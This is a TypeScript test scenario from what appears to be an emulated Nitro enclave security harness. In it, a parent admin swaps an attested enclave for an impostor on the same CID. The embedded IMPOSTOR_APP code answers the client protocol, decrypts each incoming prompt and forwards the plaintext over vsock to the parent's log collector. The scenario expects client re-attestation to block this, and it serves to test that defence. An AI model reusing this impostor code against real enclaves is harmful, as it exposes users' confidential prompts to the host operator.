import { clientInference } from '../../../world/index.ts';
import { defineScenario } from '../../define.ts';
import { parentAdmin } from './helpers.ts';
import { rebuildWithEntry } from './tampered-image.ts';

/**
 * The parent's stand-in: a genuine enclave with a genuine NSM, but its own code. It speaks the client protocol
 * (public) and sends every prompt it opens to the parent's log collector.
 */
const IMPOSTOR_APP = `(async function impostor({ enclave }) {
  const { nsm, vsock, lib } = enclave;
  const random = lib.randomFromNsm();
  const out = await vsock.connect(3, 8002);
  vsock.listen(5000, (connection) => void (async () => {
    let session = null;
    for (let i = 0; i < 16; i++) {
      const frame = await connection.receive();
      if (frame === null) return;
      const message = JSON.parse(lib.fromUtf8(frame));
      if (message.type === 'hello') {
        const nonce = lib.fromBase64(message.nonce);
        const keyPair = lib.p384KeyPair(random);
        session = { nonce, keyPair };
        const document = nsm.attestation({ publicKey: keyPair.publicKey, nonce });
        connection.send(lib.utf8(JSON.stringify({ type: 'attestation', document: lib.toBase64(document) })));
      } else if (message.type === 'prompt' && session !== null) {
        const clientPublicKey = lib.fromBase64(message.clientPublicKey);
        const shared = lib.p384SharedSecret(session.keyPair.privateKey, clientPublicKey);
        const info = lib.concatBytes(lib.utf8('nitro-emu client session v1'), clientPublicKey, session.keyPair.publicKey);
        const key = lib.hkdfSha384(shared, session.nonce, info, 32);
        const iv = new Uint8Array(12);
        iv[0] = 1;
        out.send(lib.aes256GcmOpen(key, iv, lib.fromBase64(message.ciphertext), lib.utf8('prompt')));
        connection.send(lib.utf8(JSON.stringify({ type: 'error', code: 'BUSY' })));
      }
    }
  })().catch(() => connection.close()));
});
`;

/** PA-12: the client attested the enclave once; the parent swaps what answers on that CID afterwards. */
export default defineScenario({
  id: 'PA-12',
  name: 'pa.enclave.swap-after-attestation',
  title: 'Parent admin replaces the attested enclave with its own on the same CID and port',
  attacker: 'parent-admin',
  promises: ['P2'],
  invariants: ['INV-NO-CANARY'],
  tags: { attack: [], atlas: [] },
  defence: 'clientVerifiesAttestation',
  expect: 'blocked',
  teaching:
    'After a client has attested the enclave and used it, the parent-admin terminates it and starts an enclave of its own that gets the same CID and listens on the same port. ' +
    'Session keys lived only in the old enclave, and the client attests again on every connection: the new enclave’s PCR0 is not the approved image, so the client stops before sending its prompt. ' +
    'A client that trusts whatever answers behind the parent (the control) sends its next prompt to the impostor, which passes it to the parent.',
  async setup(ctx) {
    const launched = await ctx.deployAndLaunch();
    // The client attests the genuine enclave and gets its answer: the "check" of the time-of-check/time-of-use gap.
    const first = await clientInference(ctx.world, launched.enclave, launched.deployment);
    if (!first.completed) throw new Error(`the first, genuine session failed: ${first.error}`);
    return launched;
  },
  async attack(ctx, { deployment, enclave }) {
    const pa = parentAdmin(ctx);
    pa.terminateEnclave(enclave.enclaveId);
    const impostor = await pa.launchEnclave({ image: rebuildWithEntry(ctx.world.launchImage, IMPOSTOR_APP) });
    ctx.note(`impostor ${impostor.record.enclaveId} on CID ${impostor.record.cid} (the attested one had ${enclave.cid}): ${impostor.ready ? 'ready' : impostor.failure}`);
    // The client comes back for another prompt; the parent's front door relays it to the same CID.
    const second = await clientInference(ctx.world, impostor.record, deployment);
    ctx.note(`client's second session: ${second.completed ? 'completed' : second.error}`);
  },
});
